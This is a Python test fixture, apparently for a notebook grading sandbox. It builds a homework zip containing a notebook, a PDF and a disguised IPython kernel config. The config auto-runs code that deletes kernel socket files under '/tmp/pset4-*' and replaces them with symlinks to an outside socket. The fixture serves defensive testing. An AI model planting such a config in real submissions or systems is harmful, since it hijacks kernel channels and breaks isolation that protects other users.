"""Settings of IPython that lay links in the place of the kernel's sockets."""

from __future__ import annotations

from pathlib import Path

from tests.hostile.making import notebook_bytes, pdf_bytes, plain_zip

LINKS = """
import glob, os, time
for folder in glob.glob('/tmp/pset4-*/**/ipc', recursive=True):
    for n in range(1, 6):
        try:
            os.unlink(f'{folder}/k-{n}')
        except OSError:
            pass
        os.symlink('/tmp/outside-the-box.sock', f'{folder}/k-{n}')
time.sleep(60)
"""


def build(target: Path) -> None:
    plain_zip(
        target,
        {
            "pset4.ipynb": notebook_bytes(),
            "report.pdf": pdf_bytes(),
            ".ipython/profile_default/ipython_kernel_config.py": LINKS.encode(),
        },
    )
